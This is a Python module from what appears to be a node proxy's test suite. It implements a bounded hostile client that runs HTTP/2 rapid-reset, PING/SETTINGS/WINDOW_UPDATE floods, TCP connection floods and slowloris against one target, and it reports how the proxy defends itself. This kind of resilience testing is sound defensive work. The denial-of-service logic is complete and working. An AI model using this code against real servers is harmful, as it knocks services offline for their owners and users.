"""A hostile pod's client: the abuse one enrolled pod can aim at the shared node proxy,
bounded, reporting what the proxy did about it.  The one hostile client of the adversarial
tests and of the noisy-neighbour benchmark.

    python -m nodeproxy_dev.testbed.attack KIND --host H --port P [--duration S]
        [--connections N] [--rate R] [--path P] [--reconnect] [--json]

Kinds:

- ``rapid-reset``: HTTP/2 with prior knowledge (the ``h2`` library) on each of N
  connections; HEADERS (a GET, END_STREAM) then RST_STREAM(CANCEL) on the same stream,
  pair after pair, ``--batch`` per write, as fast as it can (or ``--rate`` pairs/s per
  connection, ``--pause`` seconds between writes) until ``--duration`` or ``--count``
  pairs per connection.  Reports what was sent, the GOAWAYs received (error code, last
  stream id), connections closed or reset by the peer.
- ``ping-flood``, ``settings-flood``, ``window-update-flood``: the same, with a PING, a
  SETTINGS (ENABLE_PUSH 0) or a connection WINDOW_UPDATE (+1) frame as the unit, no
  stream opened.
- ``flood``: open up to N TCP connections as fast as allowed (``--parallel`` connects in
  flight, or ``--rate`` new connections/s), write ``--send-hex`` bytes on each if given,
  and hold them, sending nothing more, until ``--duration``.  Reports opened,
  refused/reset/timed out (by reason), closed or reset by the peer (and after how long),
  the first status each answered with, still open at the end, the most open at once.
  With ``--settle S``: S seconds after the last connect it prints a first report
  (``"phase": "held"``), then holds the open connections until ``--duration`` or until
  stdin reaches EOF (the caller releases them), and prints the final one.
- ``slowloris``: N connections each send a never-finished HTTP/1.1 request head, one
  byte every ``--interval`` seconds (``--head-at-once``: the request line and Host header
  at once, then a byte per interval; ``--silent``: nothing at all), until ``--duration``.
  Reports how many the peer closed (and after how long: p50/max), how many got a
  response and its status (a ``408``), how many are still open at the end.

``--per-connection`` (flood, slowloris) adds to each report what every connection saw:
when the peer closed or reset it (seconds after its connect, or null) and the first
bytes it answered.

With ``--reconnect`` each of the N connection slots opens a new connection when the
peer ends (or refuses) one, as a real attacker would: a GOAWAY or a header timeout then
costs the attacker nothing but a reconnect.

Every kind prints one JSON object (one line with ``--json``).  Bounded: at most
MAX_CONNECTIONS connections and MAX_DURATION_S seconds, every connect has a timeout,
and the whole run is cancelled a little after ``--duration`` whatever the peer does.
It talks only to the one ``--host``/``--port`` given (inside the test's namespaces).
It raises its own open-file limit to fit N connections.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import stat
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import h2.config
import h2.connection
import h2.errors
import h2.exceptions
import h2.settings

H2_KINDS = ("rapid-reset", "ping-flood", "settings-flood", "window-update-flood")
KINDS = (*H2_KINDS, "flood", "slowloris")
MAX_CONNECTIONS = 30000
MAX_DURATION_S = 600.0
MAX_COUNT = 10_000_000  # HTTP/2 units (pairs or frames) per connection
DEFAULT_PARALLEL = 64  # connects in flight: below the usual listen backlog
FD_MARGIN = 256
BATCH = 50  # HTTP/2 units per write
LINGER_S = 1.0  # after the last write: how long to wait for a GOAWAY or a close
GRACE_S = 10.0  # the whole run is cancelled this long after --duration
MAX_OPENS_PER_WORKER = 100  # --reconnect: connections one worker opens at most
RECONNECT_PAUSE_S = 0.05  # --reconnect: between a connection's end and the next
ANSWER_BYTES = 64  # --per-connection: the first bytes of each answer kept


# ---------------------------------------------------------------------------
# Pure parts


def summary(values: list[float]) -> dict[str, float | None]:
    """p50 and max of a list of seconds (None when empty), rounded to milliseconds."""
    if not values:
        return {"p50": None, "max": None}
    ordered = sorted(values)
    return {"p50": round(ordered[(len(ordered) - 1) // 2], 3), "max": round(ordered[-1], 3)}


def start_offsets(count: int, rate: float) -> list[float]:
    """When each of ``count`` connections may start, in seconds after the first:
    ``rate`` per second evenly, or all at once (rate 0)."""
    if rate <= 0:
        return [0.0] * count
    return [i / rate for i in range(count)]


def request_headers(authority: str, path: str) -> list[tuple[bytes, bytes]]:
    """The HTTP/2 request of every rapid-reset stream: a bodiless GET."""
    return [(b":method", b"GET"), (b":scheme", b"http"),
            (b":authority", authority.encode()), (b":path", path.encode()),
            (b"user-agent", b"nodeproxy-attack")]


def slowloris_bytes(authority: str, path: str, head_at_once: bool = False) -> Iterator[bytes]:
    """The bytes a slowloris connection sends, one at a time, without end: a request line,
    a Host header, then one made-up header line after another.  The blank line that
    would end the head never comes.  ``head_at_once``: the request line and the Host
    header come as the first piece, whole."""
    head = f"GET {path} HTTP/1.1\r\nHost: {authority}\r\n".encode()
    if head_at_once:
        yield head
    else:
        yield from (head[i:i + 1] for i in range(len(head)))
    n = 0
    while True:
        line = f"X-Slow-{n}: {'a' * 8}\r\n".encode()
        yield from (line[i:i + 1] for i in range(len(line)))
        n += 1


def response_status(data: bytes) -> int | None:
    """The status code of an HTTP/1.x response's first line, or None."""
    line = data.split(b"\r\n", 1)[0].split(b" ")
    if len(line) >= 2 and line[0].startswith(b"HTTP/1.") and line[1].isdigit():
        return int(line[1])
    return None


FRAME_HEADER = 9
GOAWAY_TYPE = 0x7


def goaways(buffer: bytearray) -> list[tuple[int, int]]:
    """The (error code, last stream id) of every GOAWAY frame complete in ``buffer``, the
    bytes a server sent from the start of its connection; the complete frames are
    removed from ``buffer``, a partial one is left for the next read.

    Read apart from the ``h2`` state machine, which raises on a frame that follows a
    GOAWAY (a response already in flight) and loses the GOAWAY with it."""
    found = []
    while len(buffer) >= FRAME_HEADER:
        length = int.from_bytes(buffer[0:3], "big")
        if len(buffer) < FRAME_HEADER + length:
            break
        if buffer[3] == GOAWAY_TYPE and length >= 8:
            payload = buffer[FRAME_HEADER:FRAME_HEADER + 8]
            found.append((int.from_bytes(payload[4:8], "big"),
                          int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF))
        del buffer[:FRAME_HEADER + length]
    return found


def error_name(code: int) -> str:
    """An HTTP/2 error code's name (``ENHANCE_YOUR_CALM``), or its number."""
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


def describe(error: BaseException) -> str:
    if isinstance(error, TimeoutError):
        return "TimeoutError"
    return type(error).__name__


def nofile_needed(connections: int) -> int:
    return connections + FD_MARGIN


# ---------------------------------------------------------------------------
# Shared


def raise_nofile(need: int) -> tuple[int, int]:
    """Lift this process's open-file limit to ``need`` if it is lower (the hard limit too,
    where permitted).  Returns the limits in force."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE,
                               (need, max(hard, need) if hard != resource.RLIM_INFINITY
                                else hard))
        except (ValueError, OSError):
            resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)


@dataclass
class Plan:
    """One run's parameters, as parsed from the command line."""

    kind: str
    host: str
    port: int
    duration: float
    connections: int
    rate: float
    path: str
    authority: str
    count: int
    interval: float
    parallel: int
    connect_timeout: float
    reconnect: bool = False
    batch: int = BATCH
    pause: float = 0.0
    send: bytes = b""
    settle: float | None = None
    per_connection: bool = False
    head_at_once: bool = False
    silent: bool = False


@dataclass
class Connection:
    """What one TCP connection of a flood or slowloris saw."""

    opened: float  # time.monotonic() at its connect
    ended_after: float | None = None  # seconds after its connect; None while open
    reset: bool = False
    answer: bytearray = field(default_factory=bytearray)  # its first ANSWER_BYTES

    def report(self) -> dict[str, Any]:
        return {"ended_after": None if self.ended_after is None
                else round(self.ended_after, 3),
                "reset": self.reset, "answer": bytes(self.answer).decode("latin-1")}


@dataclass
class Tally:
    """What happened to a set of connections (the flood's and slowloris'); ``keep``: the
    connections' own records too (``--per-connection``)."""

    keep: bool = False
    opened: int = 0
    connect_errors: Counter[str] = field(default_factory=Counter)
    closed_by_peer_after: list[float] = field(default_factory=list)
    reset_by_peer_after: list[float] = field(default_factory=list)
    statuses: Counter[int] = field(default_factory=Counter)
    open_now: int = 0
    most_open: int = 0
    bytes_sent: int = 0
    connections: list[Connection] = field(default_factory=list)

    def connected(self) -> Connection:
        self.opened += 1
        self.open_now += 1
        self.most_open = max(self.most_open, self.open_now)
        conn = Connection(time.monotonic())
        if self.keep:
            self.connections.append(conn)
        return conn

    def answered(self, conn: Connection, data: bytes) -> None:
        """The peer sent ``data`` on ``conn``: its first answer's status is counted."""
        if not conn.answer and data:
            status = response_status(data)
            self.statuses[status if status is not None else 0] += 1
        conn.answer += data[:ANSWER_BYTES - len(conn.answer)]

    def ended(self, conn: Connection, reset: bool) -> None:
        self.open_now -= 1
        conn.ended_after, conn.reset = time.monotonic() - conn.opened, reset
        (self.reset_by_peer_after if reset else self.closed_by_peer_after).append(
            conn.ended_after)

    def report(self) -> dict[str, Any]:
        out = {
            "opened": self.opened,
            "connect_failed": sum(self.connect_errors.values()),
            "connect_errors": dict(self.connect_errors),
            "closed_by_peer": len(self.closed_by_peer_after),
            "closed_after_s": summary(self.closed_by_peer_after),
            "reset_by_peer": len(self.reset_by_peer_after),
            "reset_after_s": summary(self.reset_by_peer_after),
            "responses": sum(self.statuses.values()),
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
            "open_at_end": self.open_now,
            "most_open": self.most_open,
        }
        if self.keep:
            out["per_connection"] = [c.report() for c in self.connections]
        return out


# What a write or read on a connection the peer closed raises: OSError from asyncio,
# RuntimeError ("the handler is closed") from uvloop's transports.
PEER_CLOSED = (OSError, RuntimeError)


async def _connect(plan: Plan, tally: Tally, limit: asyncio.Semaphore,
                   ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, Connection] | None:
    async with limit:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(plan.host, plan.port), plan.connect_timeout)
        except (OSError, TimeoutError) as e:
            tally.connect_errors[describe(e)] += 1
            return None
    return reader, writer, tally.connected()


async def _on_connection(plan: Plan, tally: Tally, limit: asyncio.Semaphore,
                         body: Callable[[asyncio.StreamReader, asyncio.StreamWriter,
                                         Connection], Awaitable[None]]) -> None:
    """Connect (counted in ``tally``), run ``body`` on the connection, count a reset by
    the peer, and close it whatever happened."""
    opened = await _connect(plan, tally, limit)
    if opened is None:
        return
    reader, writer, conn = opened
    try:
        await body(reader, writer, conn)
    except PEER_CLOSED:
        tally.ended(conn, reset=True)
    finally:
        writer.close()


async def _paced(plan: Plan, one: Callable[[int, float], Awaitable[None]],
                 rate: float, released: asyncio.Future[None] | None = None) -> None:
    """Run ``one(index, deadline)`` for each connection, ``rate`` starts per second (0: all
    at once), until the plan's duration is over (or ``released`` is done).  With
    ``--reconnect`` a worker whose connection ended before the deadline (closed or
    refused by the peer) opens another, RECONNECT_PAUSE_S later, at most
    MAX_OPENS_PER_WORKER times."""
    start = time.monotonic()
    deadline = start + plan.duration

    def over() -> bool:
        return time.monotonic() >= deadline or (released is not None and released.done())

    async def worker(index: int) -> None:
        for _ in range(MAX_OPENS_PER_WORKER if plan.reconnect else 1):
            await one(index, deadline)
            if time.monotonic() + RECONNECT_PAUSE_S >= deadline or over():
                return
            await asyncio.sleep(RECONNECT_PAUSE_S)

    tasks = []
    for i, offset in enumerate(start_offsets(plan.connections, rate)):
        wait = start + offset - time.monotonic()
        if wait > 0:
            await asyncio.sleep(wait)
        if over():
            break
        tasks.append(asyncio.ensure_future(worker(i)))
    await asyncio.gather(*tasks)


# ---------------------------------------------------------------------------
# flood


async def _release_on_eof(released: asyncio.Future[None]) -> None:
    """Complete ``released`` when stdin reaches EOF (the caller lets the connections go);
    if stdin is no pipe, never."""
    try:
        mode = os.fstat(sys.stdin.fileno()).st_mode
    except (OSError, ValueError, AttributeError):
        return
    if not (stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode)):
        return
    reader = asyncio.StreamReader()
    transport, _ = await asyncio.get_running_loop().connect_read_pipe(
        lambda: asyncio.StreamReaderProtocol(reader), sys.stdin)
    try:
        while await reader.read(4096):
            pass
    finally:
        transport.close()
    if not released.done():
        released.set_result(None)


async def _report_held(plan: Plan, tally: Tally, paced: asyncio.Future[None],
                       started: float) -> None:
    """Once every connect has ended (or the run has), wait ``--settle`` seconds, then print
    the ``held`` report: what the peer did to the connections so far."""
    while (tally.opened + sum(tally.connect_errors.values()) < plan.connections
           and not paced.done()):
        await asyncio.sleep(0.01)
    await asyncio.sleep(plan.settle or 0.0)
    held = {"phase": "held", "seconds": round(time.monotonic() - started, 3),
            **tally.report()}
    print(json.dumps(held), flush=True)


async def flood(plan: Plan) -> dict[str, Any]:
    tally = Tally(keep=plan.per_connection)
    limit = asyncio.Semaphore(plan.parallel)
    released: asyncio.Future[None] = asyncio.get_running_loop().create_future()

    async def one(_: int, deadline: float) -> None:
        await _on_connection(plan, tally, limit, lambda r, w, c: hold(r, w, c, deadline))

    async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                   conn: Connection, deadline: float) -> None:
        if plan.send:
            writer.write(plan.send)
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return  # still open at the deadline: stays counted in open_now
            read = asyncio.ensure_future(reader.read(4096))
            done, _ = await asyncio.wait({read, released}, timeout=left,
                                         return_when=asyncio.FIRST_COMPLETED)
            if read not in done:  # the deadline, or released: still open
                read.cancel()
                return
            data = read.result()
            if not data:
                tally.ended(conn, reset=False)
                return
            tally.answered(conn, data)  # the peer said something (an error?)

    started = time.monotonic()
    paced = asyncio.ensure_future(_paced(plan, one, plan.rate, released))
    if plan.settle is None:
        await paced
        return tally.report()
    watcher = asyncio.ensure_future(_release_on_eof(released))
    try:
        await _report_held(plan, tally, paced, started)
        await paced
    finally:
        watcher.cancel()
    return {"phase": "done", **tally.report()}


# ---------------------------------------------------------------------------
# slowloris


async def slowloris(plan: Plan) -> dict[str, Any]:
    tally = Tally(keep=plan.per_connection)
    limit = asyncio.Semaphore(plan.parallel)

    async def one(_: int, deadline: float) -> None:
        await _on_connection(plan, tally, limit, lambda r, w, c: drip(r, w, c, deadline))

    async def drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                   conn: Connection, deadline: float) -> None:
        source = slowloris_bytes(plan.authority, plan.path, plan.head_at_once)
        while True:
            if not conn.answer and not plan.silent:  # once answered, wait for the close
                piece = next(source)
                writer.write(piece)
                tally.bytes_sent += len(piece)
            left = deadline - time.monotonic()
            if left <= 0:
                return
            try:
                data = await asyncio.wait_for(reader.read(4096), min(plan.interval, left))
            except TimeoutError:
                continue
            if not data:
                tally.ended(conn, reset=False)
                return
            tally.answered(conn, data)

    await _paced(plan, one, plan.rate)
    return {**tally.report(), "bytes_sent": tally.bytes_sent}


# ---------------------------------------------------------------------------
# HTTP/2: rapid reset and the control-frame floods


def send_unit(kind: str, conn: h2.connection.H2Connection, index: int,
              headers: list[tuple[bytes, bytes]]) -> None:
    """Queue one unit of an HTTP/2 kind on ``conn``: a HEADERS+RST_STREAM(CANCEL) pair
    (rapid-reset), a PING, a SETTINGS or a connection WINDOW_UPDATE of 1."""
    if kind == "rapid-reset":
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, headers, end_stream=True)
        conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
    elif kind == "ping-flood":
        conn.ping((index % (1 << 64)).to_bytes(8, "big"))
    elif kind == "settings-flood":
        conn.update_settings({h2.settings.SettingCodes.ENABLE_PUSH: 0})
    elif kind == "window-update-flood":
        conn.increment_flow_control_window(1)
    else:
        raise ValueError(f"not an HTTP/2 kind: {kind}")


@dataclass
class H2Outcome:
    connected: bool = False
    sent: int = 0
    goaway_code: str | None = None
    goaway_last_stream: int | None = None
    closed_by_peer: bool = False
    reset_by_peer: bool = False
    error: str | None = None


async def _h2_one(plan: Plan, deadline: float, out: H2Outcome) -> None:
    """One connection of an H2_KINDS attack, recorded in ``out`` as it goes."""
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(plan.host, plan.port),
                                                plan.connect_timeout)
    except (OSError, TimeoutError) as e:
        out.error = f"connect: {describe(e)}"
        return
    out.connected = True
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                header_encoding=None))
    conn.initiate_connection()
    try:  # a pod over its caps is reset at accept: the preface may meet a closed transport
        writer.write(conn.data_to_send())
    except PEER_CLOSED:
        out.reset_by_peer = True
        writer.close()
        return
    headers = request_headers(plan.authority, plan.path)
    ended = asyncio.Event()

    async def receive() -> None:
        frames = bytearray()
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    out.closed_by_peer = True
                    return
                frames += data
                for code, last_stream in goaways(frames):
                    out.goaway_code = error_name(code)
                    out.goaway_last_stream = last_stream
                if out.goaway_code is not None:
                    continue  # read on until the peer closes; h2 would refuse the rest
                try:
                    conn.receive_data(data)  # settings, pings, window updates: answered
                except h2.exceptions.ProtocolError as e:
                    out.error = f"peer: {describe(e)}: {e}"
                    return
                pending = conn.data_to_send()
                if pending:
                    writer.write(pending)
        except PEER_CLOSED:
            out.reset_by_peer = True
        finally:
            ended.set()

    receiver = asyncio.ensure_future(receive())
    started = time.monotonic()
    try:
        while (out.sent < plan.count and time.monotonic() < deadline and not ended.is_set()
               and out.goaway_code is None):
            for _ in range(min(plan.batch, plan.count - out.sent)):
                send_unit(plan.kind, conn, out.sent, headers)
                out.sent += 1
            writer.write(conn.data_to_send())
            await writer.drain()
            wait = plan.pause
            if plan.rate > 0:
                wait = max(wait, started + out.sent / plan.rate - time.monotonic())
            # 0: still let the receiver read what came back
            await asyncio.sleep(max(0.0, min(wait, deadline - time.monotonic())))
        if not ended.is_set():  # a GOAWAY or a close may be on its way
            linger = min(LINGER_S, max(0.0, deadline + LINGER_S - time.monotonic()))
            try:
                await asyncio.wait_for(ended.wait(), linger)
            except TimeoutError:
                pass
    except (h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError) as e:
        if out.goaway_code is None:
            out.error = f"h2: {describe(e)}: {e}"
    except PEER_CLOSED:
        out.reset_by_peer = True
    finally:
        receiver.cancel()
        writer.close()


async def h2_flood(plan: Plan) -> dict[str, Any]:
    """Any of H2_KINDS: ``plan.kind`` says what each unit sent is."""
    results: list[H2Outcome] = []

    async def one(_: int, deadline: float) -> None:
        out = H2Outcome()
        results.append(out)
        try:
            await _h2_one(plan, deadline, out)
        except PEER_CLOSED:  # whatever write met the closed connection: it ends this one
            out.reset_by_peer = True

    await _paced(plan, one, 0.0)  # --rate paces the units here, not the connects
    goaways = Counter(r.goaway_code for r in results if r.goaway_code is not None)
    last_streams = [r.goaway_last_stream for r in results if r.goaway_last_stream is not None]
    errors = Counter(r.error for r in results if r.error)
    return {
        "connections": sum(r.connected for r in results),
        "connect_failed": sum(not r.connected for r in results),
        "sent": sum(r.sent for r in results),
        "unit": "pairs" if plan.kind == "rapid-reset" else "frames",
        "goaway": sum(goaways.values()),
        "goaway_codes": dict(goaways),
        "goaway_last_stream": {"min": min(last_streams), "max": max(last_streams)}
        if last_streams else None,
        "closed_by_peer": sum(r.closed_by_peer for r in results),
        "reset_by_peer": sum(r.reset_by_peer for r in results),
        "errors": dict(errors.most_common(5)),
    }


# ---------------------------------------------------------------------------
# Command line


RUNNERS: dict[str, Callable[[Plan], Awaitable[dict[str, Any]]]] = {
    **dict.fromkeys(H2_KINDS, h2_flood), "flood": flood, "slowloris": slowloris}


def parse(argv: list[str] | None = None) -> tuple[Plan, bool]:
    """The plan, and whether to print one line of JSON."""
    parser = argparse.ArgumentParser(prog="python -m nodeproxy_dev.testbed.attack",
                                     description=__doc__.split("\n\n")[0])
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--duration", type=float, default=10.0, help="seconds (bound)")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0.0,
                        help="HTTP/2 kinds: units/s per connection; flood, slowloris: new "
                             "connections/s (0: as fast as allowed)")
    parser.add_argument("--path", default="/")
    parser.add_argument("--authority", help="Host / :authority (default HOST:PORT)")
    parser.add_argument("--count", type=int, default=MAX_COUNT,
                        help="HTTP/2 kinds: pairs or frames per connection at most")
    parser.add_argument("--batch", type=int, default=BATCH,
                        help="HTTP/2 kinds: pairs or frames per write")
    parser.add_argument("--pause", type=float, default=0.0,
                        help="HTTP/2 kinds: seconds between writes at least")
    parser.add_argument("--interval", type=float, default=1.0,
                        help="slowloris: seconds between bytes")
    parser.add_argument("--head-at-once", action="store_true",
                        help="slowloris: the request line and Host header in one write")
    parser.add_argument("--silent", action="store_true",
                        help="slowloris: send nothing at all, only see when it is closed")
    parser.add_argument("--send-hex", default="",
                        help="flood: bytes (hex) written on each connection once open")
    parser.add_argument("--settle", type=float,
                        help="flood: print a 'held' report this long after the last "
                             "connect, then hold until --duration or stdin's EOF")
    parser.add_argument("--per-connection", action="store_true",
                        help="flood, slowloris: report what each connection saw")
    parser.add_argument("--parallel", type=int, default=DEFAULT_PARALLEL,
                        help="connects in flight at once")
    parser.add_argument("--connect-timeout", type=float, default=5.0)
    parser.add_argument("--reconnect", action="store_true",
                        help="open a new connection when the peer ends one (or refuses "
                             f"it), at most {MAX_OPENS_PER_WORKER} per connection slot")
    parser.add_argument("--json", action="store_true", help="one line of JSON")
    args = parser.parse_args(argv)
    if not 0 < args.duration <= MAX_DURATION_S:
        parser.error(f"--duration must be in (0, {MAX_DURATION_S:g}]")
    if not 1 <= args.connections <= MAX_CONNECTIONS:
        parser.error(f"--connections must be between 1 and {MAX_CONNECTIONS}")
    if not 1 <= args.count <= MAX_COUNT:
        parser.error(f"--count must be between 1 and {MAX_COUNT}")
    if not 1 <= args.batch <= 10_000 or not 0 <= args.pause <= 10:
        parser.error("--batch must be between 1 and 10000, --pause between 0 and 10")
    if args.rate < 0 or args.interval < 0.01 or args.parallel < 1 \
            or args.connect_timeout <= 0:
        parser.error("--rate must be >= 0, --interval >= 0.01, --parallel >= 1, "
                     "--connect-timeout > 0")
    if args.settle is not None and not 0 <= args.settle < args.duration:
        parser.error("--settle must be >= 0 and below --duration")
    if not args.path.startswith("/"):
        parser.error("--path must start with /")
    try:
        send = bytes.fromhex(args.send_hex)
    except ValueError:
        parser.error("--send-hex must be hexadecimal")
    if len(send) > 65536:
        parser.error("--send-hex: at most 65536 bytes")
    authority = args.authority or (f"[{args.host}]:{args.port}" if ":" in args.host
                                   else f"{args.host}:{args.port}")
    return Plan(kind=args.kind, host=args.host, port=args.port, duration=args.duration,
                connections=args.connections, rate=args.rate, path=args.path,
                authority=authority, count=args.count, interval=args.interval,
                parallel=args.parallel, connect_timeout=args.connect_timeout,
                reconnect=args.reconnect, batch=args.batch, pause=args.pause, send=send,
                settle=args.settle, per_connection=args.per_connection,
                head_at_once=args.head_at_once, silent=args.silent), args.json


async def run(plan: Plan) -> dict[str, Any]:
    """The kind's report, plus what every report has; cancelled GRACE_S past the duration."""
    started = time.monotonic()
    try:
        report = await asyncio.wait_for(RUNNERS[plan.kind](plan), plan.duration + GRACE_S)
        timed_out = False
    except TimeoutError:
        report, timed_out = {}, True
    return {"kind": plan.kind, "target": f"{plan.host}:{plan.port}",
            "duration_s": plan.duration, "reconnect": plan.reconnect,
            "seconds": round(time.monotonic() - started, 3),
            "cancelled_at_bound": timed_out, **report}


def main(argv: list[str] | None = None) -> int:
    plan, as_json = parse(argv)
    soft, _ = raise_nofile(nofile_needed(plan.connections))
    runner: Callable[[Any], dict[str, Any]] = asyncio.run
    try:
        import uvloop
        runner = uvloop.run
    except ImportError:
        pass
    report = runner(run(plan))
    report["nofile"] = soft
    print(json.dumps(report) if as_json else json.dumps(report, indent=2), flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
